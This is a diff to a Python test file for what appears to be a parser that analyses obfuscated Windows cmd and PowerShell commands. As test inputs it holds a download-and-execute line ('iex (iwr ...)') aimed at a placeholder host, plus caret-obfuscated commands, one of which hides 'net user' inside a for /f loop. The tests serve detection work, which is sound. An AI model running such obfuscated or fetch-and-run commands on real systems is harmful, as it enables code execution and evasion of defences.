@@ -193,6 +193,11 @@ def test_a_line_for_powershell_keeps_its_pipes():
     assert ran.children("script.powershell") == ["iex (iwr http://files.example.test/a) | out-null"]
 
 
+def test_a_loop_behind_a_pipe_reads_its_command_twice():
+    text = """cmd /c "echo net user|for /f "delims=f tokens=1" %c in ('ftype^^^|find "cm"') do %c" """
+    assert line(text).runs[-1] == "net user"
+
+
 def test_carets_are_counted():
     facts = [f for f in line("p^ow^er^sh^el^l -c exit").items if isinstance(f, Fact) and f.kind == "obfuscation.caret"]
     assert facts == [Fact("obfuscation.caret", "carets inside words", detail={"count": "5"})]
